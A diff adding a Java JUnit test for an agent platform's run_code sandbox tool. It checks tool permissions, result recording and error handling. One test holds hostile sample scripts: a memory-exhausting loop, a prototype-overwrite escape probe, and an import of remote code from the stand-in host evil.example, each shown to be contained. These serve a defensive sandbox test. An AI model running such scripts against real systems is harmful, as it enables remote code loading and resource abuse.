@@ -1,0 +1,139 @@
+package dev.threadline.executor.tools;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import dev.threadline.avro.ToolEffect;
+import dev.threadline.config.Limits;
+import dev.threadline.executor.Requests;
+import dev.threadline.executor.tools.builtin.EchoTool;
+import dev.threadline.executor.tools.builtin.RunCodeTool;
+import java.util.List;
+import java.util.Optional;
+import org.junit.jupiter.api.Test;
+
+/** The run_code tool: a script that calls the agent's allowed tools, and scripts that misbehave. */
+class RunCodeToolTest {
+  private static final ObjectMapper JSON = new ObjectMapper();
+  private static final String AGENT =
+      """
+      {"name": "helper", "tools": [
+        {"name": "echo", "permission": "allow"}, {"name": "upper", "permission": "allow"},
+        {"name": "payments", "permission": "ask"}, {"name": "broken", "permission": "allow"}, {"name": "run_code", "permission": "allow"}]}
+      """;
+
+  private final Tool upper =
+      Tools.of(
+          "upper",
+          "upper-cases text",
+          (context, args) -> {
+            context
+                .state()
+                .setValue("last", JSON.getNodeFactory().textNode(args.path("text").asText()));
+            return args.path("text").asText().toUpperCase(java.util.Locale.ROOT);
+          });
+  private final Tool payments = Tools.of("payments", "moves money", (context, args) -> "paid");
+  private final Tool broken =
+      Tools.of(
+          "broken",
+          "fails",
+          (context, args) -> {
+            throw new IllegalStateException("the ledger is closed");
+          });
+  private final ThreadReader reader =
+      new ThreadReader() {
+        @Override
+        public Optional<JsonNode> read(String path) {
+          return Optional.empty();
+        }
+
+        @Override
+        public Optional<JsonNode> definition(String collection, String name) {
+          try {
+            return Optional.of(JSON.readTree(AGENT));
+          } catch (java.io.IOException e) {
+            throw new IllegalStateException(e);
+          }
+        }
+      };
+  private final ToolRunner runner =
+      new ToolRunner(
+          new ToolRegistry(List.of(new EchoTool(), upper, payments, broken, new RunCodeTool())),
+          Limits.defaults(),
+          request -> reader);
+
+  private ToolRunner.Outcome runCode(String code) throws Exception {
+    String args = JSON.createObjectNode().put("code", code).toString();
+    return runner.run(
+        Requests.tool("t-1", "run_code", args, Requests.T0.plusSeconds(600)), Requests.T0);
+  }
+
+  @Test
+  void aScriptCallsTwoOfTheAgentsToolsAndReturnsTheirCombinedResult() throws Exception {
+    ToolRunner.Outcome outcome =
+        runCode(
+            """
+            const echoed = await tools.echo({ word: "hello" });
+            const shouted: string = await tools.upper({ text: echoed.word });
+            console.log("got", shouted);
+            export default { echoed, shouted, both: `${echoed.word} ${shouted}` };
+            """);
+    assertThat(outcome.error()).isNull();
+    JsonNode result = JSON.readTree(outcome.output());
+    assertThat(result.path("status").asText()).isEqualTo("ok");
+    assertThat(result.path("result").path("both").asText()).isEqualTo("hello HELLO");
+    assertThat(result.path("logs").get(0).asText()).isEqualTo("log: got HELLO");
+    List<String> kinds = outcome.effects().stream().map(ToolEffect::getKind).toList();
+    assertThat(kinds)
+        .as("each call recorded, the nested tool's own write kept")
+        .containsExactly("emit", "set_value", "emit");
+    assertThat(outcome.effects().get(0).getContent()).contains("code_tool_call").contains("echo");
+  }
+
+  @Test
+  void onlyToolsTheAgentAllowsOutrightAreOffered() throws Exception {
+    JsonNode result = JSON.readTree(runCode("export default Object.keys(tools).sort();").output());
+    assertThat(result.path("result").toString()).isEqualTo("[\"broken\",\"echo\",\"upper\"]");
+  }
+
+  @Test
+  void hostileScriptsEndWithTheirStatusAndTheExecutorServesTheNextCall() throws Exception {
+    assertThat(
+            JSON.readTree(
+                    runCode(
+                            "const a = []; while (true) a.push(new Array(1e5).fill(1)); export default 1;")
+                        .output())
+                .path("status")
+                .asText())
+        .isEqualTo("memory");
+    assertThat(
+            JSON.readTree(
+                    runCode(
+                            "Object.prototype.toString = () => 'owned'; export default typeof Java + typeof process;")
+                        .output())
+                .path("result")
+                .asText())
+        .isEqualTo("undefinedundefined");
+    assertThat(
+            JSON.readTree(
+                    runCode("export default await import('https://evil.example/x.js');").output())
+                .path("status")
+                .asText())
+        .isEqualTo("link_error");
+    JsonNode after =
+        JSON.readTree(runCode("export default await tools.echo({ ok: true });").output());
+    assertThat(after.path("result").path("ok").asBoolean()).isTrue();
+  }
+
+  @Test
+  void aFailingNestedToolRejectsItsPromiseWithItsError() throws Exception {
+    JsonNode result =
+        JSON.readTree(
+            runCode(
+                    "try { await tools.upper({}); } catch (e) { console.log(String(e.message)); }"
+                        + " export default 'handled';")
+                .output());
+    assertThat(result.path("result").asText()).isEqualTo("handled");
+  }
+}
